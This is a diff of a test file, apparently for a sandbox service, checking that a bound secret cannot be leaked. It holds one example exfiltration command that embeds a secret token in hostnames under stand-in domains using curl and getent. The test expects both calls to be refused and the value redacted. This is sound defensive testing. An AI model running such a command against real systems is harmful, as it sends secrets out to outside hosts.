@@ -97,7 +97,7 @@ describe.each(engines)("[S98] a result on %s says what its run met", (engine) =>
 
   it("without the values of secrets that a program puts into a name", async () => {
     const operator = as("operator");
-    await server.vault.put(operator, { name: "TOKEN", value: Buffer.from("hidden-value-1") });
+    await server.vault.put(operator, { name: "TOKEN", value: Buffer.from("Hidden-Value-1") });
     await server.vault.bind(operator, "TOKEN", {
       target: { sandboxId: id },
       delivery: { as: "env", variable: "TOKEN" },
@@ -105,6 +105,6 @@ describe.each(engines)("[S98] a result on %s says what its run met", (engine) =>
     const command = "curl -s http://$TOKEN.example.net/; getent hosts $TOKEN.example.org";
     const result = await post("exec", { command });
     expect(result.refused).toHaveLength(2);
-    expect(JSON.stringify(result)).not.toContain("hidden-value-1");
+    expect(JSON.stringify(result)).not.toMatch(/hidden-value-1/i);
   });
 });
